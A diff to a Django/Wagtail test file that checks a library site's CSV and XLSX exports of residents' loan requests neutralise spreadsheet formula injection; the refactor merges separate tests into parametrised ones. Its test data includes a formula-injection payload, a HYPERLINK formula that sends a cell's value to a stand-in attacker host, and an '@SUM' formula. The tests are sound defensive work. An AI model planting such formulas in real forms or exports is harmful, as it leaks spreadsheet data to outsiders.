@@ -18,15 +18,7 @@ from wagtail.models import get_page_models
 from cms import roles
 from cms.exports import SafeSpreadsheetExportMixin, neutralise
 from library.models import LoanFormPage, LoanRequest
-from tests.factories import (
-    make_catalogue,
-    make_email_templates,
-    make_expert,
-    make_home,
-    make_loan,
-    make_loan_form,
-    user_in_group,
-)
+from tests.factories import make_expert, make_home, make_lending_catalogue, make_loan, user_in_group
 
 EVIL = '=HYPERLINK("http://evil.example"&C2,"Klik")'
 SUM = "@SUM(1+1)"
@@ -37,12 +29,9 @@ HARMLESS = "Sanne de Boer"
 
 @pytest.fixture
 def site(db):
-    home = make_home()
-    catalogue = make_catalogue(home)
-    form = make_loan_form(catalogue)
-    make_email_templates()
+    catalogue = make_lending_catalogue(make_home())
     expert = make_expert(catalogue, "Hoop houden", expert_name="Bram Jansen")
-    return {"form": form, "expert": expert}
+    return {"form": LoanFormPage.objects.get(), "expert": expert}
 
 
 def client_in(role: str) -> Client:
@@ -114,40 +103,101 @@ def test_numbers_and_dates_stay_as_they_are(value):
     assert neutralise(value) is value
 
 
-# --- the loan desk ---
+# --- the residents' answers: the loan desk and the loan form ---
 
 
 @pytest.fixture
 def desk_loans(site):
-    evil = make_loan(site["expert"], name=EVIL, supervisor=SUM, phone=PHONE, learning_goals=GOALS)
-    harmless = make_loan(site["expert"], email="ander@example.org")
-    return evil, harmless
+    """The register's export: one request with formulas typed in, one without."""
+    make_loan(site["expert"], name=EVIL, supervisor=SUM, phone=PHONE, learning_goals=GOALS)
+    make_loan(site["expert"], email="ander@example.org")
+    return "/admin/leenbalie/"
 
 
-def test_desk_csv_quotes_formulas(desk_loans):
-    rows = csv_rows(client_in(roles.SECRETARIAT).get("/admin/leenbalie/?export=csv"))
+@pytest.fixture
+def submissions(site, client):
+    """The form builder's export of the same answers, sent through the loan form."""
+    form_url = site["form"].url
+    answers = {
+        "expert": str(site["expert"].pk),
+        "programme": "huisartsgeneeskunde",
+        "motivation": "Ik vermijd dit gesprek.",
+        "consent": "on",
+        "website": "",
+    }
+    for extra in (
+        {
+            "name": EVIL,
+            "email": "sanne@example.org",
+            "phone": PHONE,
+            "supervisor": SUM,
+            "learning_goals": GOALS,
+        },
+        {
+            "name": HARMLESS,
+            "email": "ander@example.org",
+            "phone": "06-0000 2222",
+            "supervisor": "Dr. P. Visser",
+            "learning_goals": "Hoop bespreken.",
+        },
+    ):
+        response = client.post(form_url, {**answers, **extra})
+        assert response.status_code == 200 and "Bedankt" in response.content.decode()
+    assert LoanRequest.objects.count() == 2
+    return f"/admin/forms/submissions/{site['form'].pk}/"
+
+
+# The two exports of residents' answers, by the fixture that fills them: the loan desk's
+# register and the form builder's submissions, each with its own column headings.
+ANSWER_EXPORTS = {
+    "desk_loans": {
+        "name": "Naam",
+        "phone": "Telefoon",
+        "supervisor": "Opleider",
+        "goals": "Leerdoel(en)",
+        "date": "Ontvangen op",
+    },
+    "submissions": {
+        "name": "Naam",
+        "phone": "Telefoonnummer",
+        "supervisor": "Naam van je opleider",
+        "goals": "Je persoonlijke leerdoel(en)",
+        "date": "Datum van inzending",
+    },
+}
+TYPED = {"name": EVIL, "phone": PHONE, "supervisor": SUM, "goals": GOALS}
+
+
+def answer_rows(request, export: str, file_format: str) -> tuple[dict, dict, dict]:
+    """The export that the fixture `export` fills, as the secretariat downloads it: its column
+    headings, the row with the formulas typed in and the harmless row."""
+    read = csv_rows if file_format == "csv" else xlsx_rows
+    url = request.getfixturevalue(export)
+    rows = read(client_in(roles.SECRETARIAT).get(f"{url}?export={file_format}"))
     evil = by_heading(rows, "E-mailadres", "sanne@example.org")
-    assert evil["Naam"] == "'" + EVIL
-    assert evil["Opleider"] == "'" + SUM
-    assert evil["Telefoon"] == "'" + PHONE
-    assert evil["Leerdoel(en)"] == "'" + GOALS
-    harmless = by_heading(rows, "E-mailadres", "ander@example.org")
-    assert harmless["Naam"] == HARMLESS
-    assert harmless["Telefoon"] == "06-0000 2222"
-    assert harmless["Opleider"] == "Dr. P. Visser"
-    assert harmless["Ontvangen op"][:2] == "20"  # a date, not quoted
+    return ANSWER_EXPORTS[export], evil, by_heading(rows, "E-mailadres", "ander@example.org")
 
 
-def test_desk_xlsx_stores_formulas_as_text(desk_loans):
-    rows = xlsx_rows(client_in(roles.SECRETARIAT).get("/admin/leenbalie/?export=xlsx"))
-    evil = by_heading(rows, "E-mailadres", "sanne@example.org")
-    assert_text_cell(evil["Naam"], EVIL)
-    assert_text_cell(evil["Opleider"], SUM)
-    assert_text_cell(evil["Telefoon"], PHONE)
-    assert_text_cell(evil["Leerdoel(en)"], GOALS)
-    harmless = by_heading(rows, "E-mailadres", "ander@example.org")
-    assert harmless["Naam"].value == HARMLESS and not harmless["Naam"].quotePrefix
-    assert isinstance(harmless["Ontvangen op"].value, datetime.datetime)
+@pytest.mark.parametrize("export", ANSWER_EXPORTS)
+def test_answers_csv_quotes_formulas(request, export):
+    heading, evil, harmless = answer_rows(request, export, "csv")
+    assert {field: evil[heading[field]] for field in TYPED} == {
+        field: "'" + text for field, text in TYPED.items()
+    }
+    assert harmless[heading["name"]] == HARMLESS
+    assert harmless[heading["phone"]] == "06-0000 2222"
+    assert harmless[heading["supervisor"]] == "Dr. P. Visser"
+    assert harmless[heading["date"]][:2] == "20"  # a date, not quoted
+
+
+@pytest.mark.parametrize("export", ANSWER_EXPORTS)
+def test_answers_xlsx_store_formulas_as_text(request, export):
+    heading, evil, harmless = answer_rows(request, export, "xlsx")
+    for field, text in TYPED.items():
+        assert_text_cell(evil[heading[field]], text)
+    assert harmless[heading["name"]].value == HARMLESS
+    assert not harmless[heading["name"]].quotePrefix
+    assert isinstance(harmless[heading["date"]].value, datetime.datetime)
 
 
 # --- the working group's reports ---
@@ -185,64 +235,6 @@ def test_report_xlsx_stores_formulas_as_text(report_loans):
     evil = by_heading(rows, "Opleider", SUM)
     assert_text_cell(evil["Opleider"], SUM)
     assert evil["AIOS met aanvraag"].value == 1 and evil["AIOS met aanvraag"].data_type == "n"
-
-
-# --- the loan form's submissions ---
-
-
-@pytest.fixture
-def submissions(site, client):
-    form_url = site["form"].url
-    answers = {
-        "expert": str(site["expert"].pk),
-        "programme": "huisartsgeneeskunde",
-        "motivation": "Ik vermijd dit gesprek.",
-        "consent": "on",
-        "website": "",
-    }
-    for extra in (
-        {
-            "name": EVIL,
-            "email": "sanne@example.org",
-            "phone": PHONE,
-            "supervisor": SUM,
-            "learning_goals": GOALS,
-        },
-        {
-            "name": HARMLESS,
-            "email": "ander@example.org",
-            "phone": "06-0000 2222",
-            "supervisor": "Dr. P. Visser",
-            "learning_goals": "Hoop bespreken.",
-        },
-    ):
-        response = client.post(form_url, {**answers, **extra})
-        assert response.status_code == 200 and "Bedankt" in response.content.decode()
-    assert LoanRequest.objects.count() == 2
-    return f"/admin/forms/submissions/{site['form'].pk}/"
-
-
-def test_form_submissions_csv_quotes_formulas(submissions):
-    rows = csv_rows(client_in(roles.SECRETARIAT).get(submissions + "?export=csv"))
-    evil = by_heading(rows, "E-mailadres", "sanne@example.org")
-    assert evil["Naam"] == "'" + EVIL
-    assert evil["Telefoonnummer"] == "'" + PHONE
-    assert evil["Naam van je opleider"] == "'" + SUM
-    assert evil["Je persoonlijke leerdoel(en)"] == "'" + GOALS
-    harmless = by_heading(rows, "E-mailadres", "ander@example.org")
-    assert harmless["Naam"] == HARMLESS and harmless["Telefoonnummer"] == "06-0000 2222"
-
-
-def test_form_submissions_xlsx_stores_formulas_as_text(submissions):
-    rows = xlsx_rows(client_in(roles.SECRETARIAT).get(submissions + "?export=xlsx"))
-    evil = by_heading(rows, "E-mailadres", "sanne@example.org")
-    assert_text_cell(evil["Naam"], EVIL)
-    assert_text_cell(evil["Telefoonnummer"], PHONE)
-    assert_text_cell(evil["Naam van je opleider"], SUM)
-    assert_text_cell(evil["Je persoonlijke leerdoel(en)"], GOALS)
-    assert isinstance(evil["Datum van inzending"].value, datetime.datetime)
-    harmless = by_heading(rows, "E-mailadres", "ander@example.org")
-    assert harmless["Naam"].value == HARMLESS and not harmless["Naam"].quotePrefix
 
 
 # --- every export goes through cms.exports ---
